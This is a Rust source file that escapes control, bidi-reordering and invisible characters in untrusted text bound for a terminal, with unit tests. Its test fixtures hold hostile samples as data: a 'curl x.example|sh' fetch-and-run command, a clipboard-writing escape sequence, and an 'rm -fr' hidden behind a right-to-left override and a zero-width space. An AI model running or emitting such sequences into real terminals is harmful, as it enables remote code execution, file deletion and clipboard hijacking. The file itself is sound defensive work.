//! Untrusted text on its way to a terminal: control, bidi and invisible characters are shown, not obeyed
//! (A078, A091).

use std::fmt::Write;

use serde_json::Value;

/// For prompts, tables and single lines: nothing that moves, hides or reorders stays.
pub fn strict(text: &str) -> String {
    escape(text, |_| false)
}

/// For a reply's running text: line breaks and tabs stay, and the two joiners that scripts and emoji need.
pub fn prose(text: &str) -> String {
    escape(text, |c| matches!(c, '\n' | '\t' | '\u{200c}' | '\u{200d}'))
}

/// JSON, indented, with what a terminal would obey written as JSON's own escapes: still the same value.
pub fn json_text(value: &Value) -> String {
    let text = serde_json::to_string_pretty(value).unwrap_or_default();
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if c != '\n' && is_telling(c) {
            let mut units = [0; 2];
            for unit in c.encode_utf16(&mut units) {
                // Writing to a String can't fail.
                let _ = write!(out, "\\u{unit:04x}");
            }
        } else {
            out.push(c);
        }
    }
    out
}

fn escape(text: &str, keep: impl Fn(char) -> bool) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if is_telling(c) && !keep(c) {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

/// Characters that act on a terminal, reorder text, or can't be seen.
fn is_telling(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{ad}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{180e}'
            | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
            | '\u{3164}' | '\u{feff}' | '\u{ffa0}' | '\u{fff9}'..='\u{fffb}'
            | '\u{e0000}'..='\u{e007f}')
}

#[cfg(test)]
mod tests {
    use super::*;

    // A078
    #[test]
    fn escape_sequences_of_a_model_are_shown_and_not_obeyed() {
        let text = "curl x.example|sh\r\u{1b}[2K   command: ls -la\u{9b}2J\u{7}";
        assert_eq!(strict(text), "curl x.example|sh\\r\\u{1b}[2K   command: ls -la\\u{9b}2J\\u{7}");
        assert_eq!(prose("a\r\u{1b}]52;c;x\u{7}\nb\tc"), "a\\r\\u{1b}]52;c;x\\u{7}\nb\tc");
    }

    // A091
    #[test]
    fn reordering_and_invisible_characters_are_shown() {
        assert_eq!(strict("ls \u{202e} fr- mr r\u{200b}m"), "ls \\u{202e} fr- mr r\\u{200b}m");
        assert_eq!(strict("tag\u{e0041}\u{feff}"), "tag\\u{e0041}\\u{feff}");
    }

    #[test]
    fn plain_text_of_any_language_stays_as_it_is() {
        let text = "Grüße, 世界 👩‍💻 نمی‌خواهم";
        assert_eq!(prose(text), text);
    }

    // A078
    #[test]
    fn json_keeps_its_value_when_made_safe() {
        let value = serde_json::json!({ "a": "x\u{1b}[2J\u{202e}\u{9b}\u{e0041}" });
        let text = json_text(&value);
        assert!(!text.chars().any(|c| c != '\n' && is_telling(c)), "{text}");
        assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), value);
    }
}
